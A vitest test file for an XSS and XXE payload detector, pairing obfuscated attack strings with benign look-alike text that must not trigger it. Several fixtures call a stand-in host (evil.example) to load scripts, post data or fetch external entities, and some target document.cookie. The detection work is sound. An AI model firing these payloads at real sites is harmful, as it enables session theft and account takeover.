// XSS detectors: script in every input (the user agent and cookie names too), handler attributes
// without a tag, obfuscations (spaced tags, 7-bit encoding, bracket-only script, string property
// access, tagged templates), XML external entities; and hard benign text that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads } from "./index.ts";

type Event = ReturnType<typeof normalizeEvent>;
const query = (value: string) =>
  normalizeEvent({ url: { original: `/s?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
const queryName = (name: string) =>
  normalizeEvent({ url: { original: `/s?${encodeURIComponent(name)}=1` }, http: { request: { method: "GET" } } });
const form = (body: string) =>
  normalizeEvent({ url: { original: "/comment" }, http: { request: { method: "POST", body: { content: body } } } });
const agent = (ua: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET" } }, user_agent: { original: ua } });
const cookie = (value: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET", cookie: value } } });
const header = (value: string) =>
  normalizeEvent({
    url: { original: "/" },
    http: { request: { method: "GET", headers: { "x-forwarded-host": value } } },
  });
const xssIds = (e: Event) =>
  detectPayloads(e)
    .filter((d) => d.category === "xss")
    .map((d) => d.id);

describe("XSS detectors", () => {
  it.each([
    ["sn-xss-script-tag", agent("Mozilla/5.0 <script src=//evil.example/x.js></script>")],
    ["sn-xss-script-tag", query("<svg:script href=x>go()</svg:script>")],
    ["sn-xss-script-tag", query("< s c r i p t >steal()")],
    ["sn-xss-script-tag", form("msg=\\xbcscript\\xbesteal()\\xbc/script\\xbe")],
    ["sn-xss-script-tag", form("msg=\\xc2\\xbcscript\\xc2\\xbesteal()\\xc2\\xbc/script\\xc2\\xbe")],
    ["sn-xss-script-tag", form("msg=\\xd0\\xbcscript\\xd0\\xbesteal(1)\\xd0\\xbc/script\\xd0\\xbe")],
    ["sn-xss-script-tag", query("¼em¾go(2)¼/em¾")],
    ["sn-xss-script-tag", form("q=%BCb%BErun%28%27x%27%29%BC%2Fb%BE")],
    ["sn-xss-event-handler", agent('Crawler/3.1 " onmouseover=steal(1) "')],
    ["sn-xss-event-handler", header("x' onfocus=$.post('//evil.example') '")],
    ["sn-xss-event-handler", queryName(" onpointerenter= ")],
    ["sn-xss-event-handler", query("'onanimationstart=")],
    ["sn-xss-event-handler", cookie("theme=dark; %22onclick%3Drun(1)=x")],
    ["sn-xss-js-uri", query("width:10px;background:url(javascript:steal())")],
    ["sn-xss-js-uri", query("data:,<b onclick=x>")],
    ["sn-xss-js-uri", cookie("jav%26tab%3Bascript:steal()=1")],
    ["sn-xss-dangerous-tag", cookie("<d i a l o g open>=1")],
    ["sn-xss-dangerous-tag", query('<o:vmlframe src="x.fml">')],
    ["sn-xss-dangerous-tag", query("<?import namespace=t implementation=x>")],
    ["sn-xss-dangerous-tag", query("+ADw-p+AD4-hello+ADw-/p+AD4-")],
    ["sn-xss-dangerous-tag", form("bio=x%2BADw-b%2BAD4-bold")],
    [
      "sn-xss-dom-sink",
      normalizeEvent({
        url: { original: "/" },
        http: { request: { method: "GET", referrer: "https://evil.example/s?q=x;onfocus=eval(atob('eA=='))" } },
      }),
    ],
    ["sn-xss-script-tag", query("hello <script>")],
    ["sn-xss-script-tag", form("c=<script>\nsteal(document.cookie)")],
    ["sn-xss-script-tag", form("c=<script> var a = 1")],
    ["sn-xss-dom-sink", form("q=document/*a*/./*b*/cookie")],
    ["sn-xss-dom-sink", form('q=top["al"+"ert"](1)&r=window[\'cookie\']')],
    ["sn-xss-dom-sink", query("(window)[\"location\"]='//evil.example'")],
    ["sn-xss-dom-sink", query("[1].map.call`${eval}steal\\x28\\x29`")],
    ["sn-xss-dom-sink", query("new Function('return 1')()")],
    ["sn-xss-dom-sink", query("parent['pro'+'mpt'](7)")],
    ["sn-xss-dom-sink", form("v=globalThis[atob('cHJvbXB0')](7)")],
    ["sn-xss-dom-sink", query('"; confirm (document.domain);//')],
    ["sn-xss-jsfuck", form("v=(!![]+[])[+[]]+(![]+[])[+!+[]]")],
    ["sn-xss-jsfuck", query("[][(![]+[])[+[]]]")],
    [
      "sn-xss-xml-external",
      form('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY ext SYSTEM "http://evil.example/x">]><r>&ext;</r>'),
    ],
    [
      "sn-xss-xml-external",
      form('<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/x"/></doc>'),
    ],
    ["sn-xss-css-binding", query("color:red;-moz-binding:url(//evil.example/b.xml#x)")],
  ])("%s fires on %#", (id, event) => {
    expect(xssIds(event)).toContain(id);
  });

  it.each([
    [
      "browser",
      agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
      ),
    ],
    ["bot", agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")],
    ["prose with on= words", query("the meeting is on monday; online=true works for me")],
    ["prose about events", form("comment=Set onload = true in the config file, then reload (F5).")],
    ["markdown image", form("text=Look: ![](https://example.com/cat.png) cute")],
    [
      "arrays in JSON",
      normalizeEvent({
        url: { original: "/api" },
        http: {
          request: { method: "POST", body: { content: JSON.stringify({ tags: [], groups: [[], []], ok: true }) } },
        },
      }),
    ],
    ["math", query("(a+b)[i] + [c] ! d")],
    ["fractions", form("recipe=¼ cup sugar, ¾ cup flour, a café au lait")],
    ["XML without entities", form('<?xml version="1.0"?><order xmlns="urn:shop"><item sku="7"/></order>')],
    ["JS code reading a cookie by name", form("code=const v = cookies.get('session'); console.log(v)")],
    ["template literal", form("code=const greeting = `Hello ${user.name}`;")],
    ["cookie names", cookie("session=abc; theme=dark; consent=yes")],
    ["Cyrillic", query("привет, как дела? «ёлка» — 2025")],
    ["Cyrillic with м and о (truncate to < and >)", query("мой дом — мост и море; Мама мыла раму (в 2024)")],
    [
      "percent-encoded Cyrillic path",
      normalizeEvent({
        url: { original: `/${encodeURIComponent("каталог/мясо-и-молоко")}?q=${encodeURIComponent("молоко (1 л)")}` },
        http: { request: { method: "GET" } },
      }),
    ],
    [
      "escaped Cyrillic opener without a whole element",
      form("msg=\\xd0\\xbcscript\\xd0\\xbego(1)\\xd0\\xbc/script\\xd0"),
    ],
    ["German umlauts and fractions", form("text=Grüße aus München: Größe ¼ > ½, Maße (außen) ¾")],
    ["ES module import in a code sample", form('code=import { sayHello } from "./hello.js";')],
    ["prose about importing", query("we import (and re-export) the implementation = fine")],
    ["prose with eval and confirm", query("We eval (evaluate) the results. Confirm (yes/no)? Alert (urgent) team")],
    ["a list index in prose", query("top [10] (list) and self[key] lookups")],
    [
      "a question about document.cookie",
      query("Why is document.cookie empty after login? The document.domain looks right"),
    ],
    ["JS array indexing", form("code=const first = items[0]; rows[i].push(x)")],
    ["a plus sign before capitals (not UTF-7 markup)", query("Grade A+AB- done, C++ADA-style")],
    ["a JSX code sample", form("code=<Button onClick={handleClick}>Save</Button>")],
    [
      "a search engine referrer",
      normalizeEvent({
        url: { original: "/" },
        http: { request: { method: "GET", referrer: "https://www.google.com/search?q=how+to+use+alert()+in+js" } },
      }),
    ],
    ["a tag named in a sentence (query)", form("comment=The script tag is <script> in HTML, see the MDN docs")],
    [
      "a tag named in a sentence (JSON)",
      normalizeEvent({
        url: { original: "/api/c" },
        http: {
          request: {
            method: "POST",
            body: { content: JSON.stringify({ text: "Wrap inputs in a <form> element. It posts to the server." }) },
          },
        },
      }),
    ],
  ])("stays quiet on %s", (_label, event) => {
    expect(xssIds(event)).toEqual([]);
  });
});
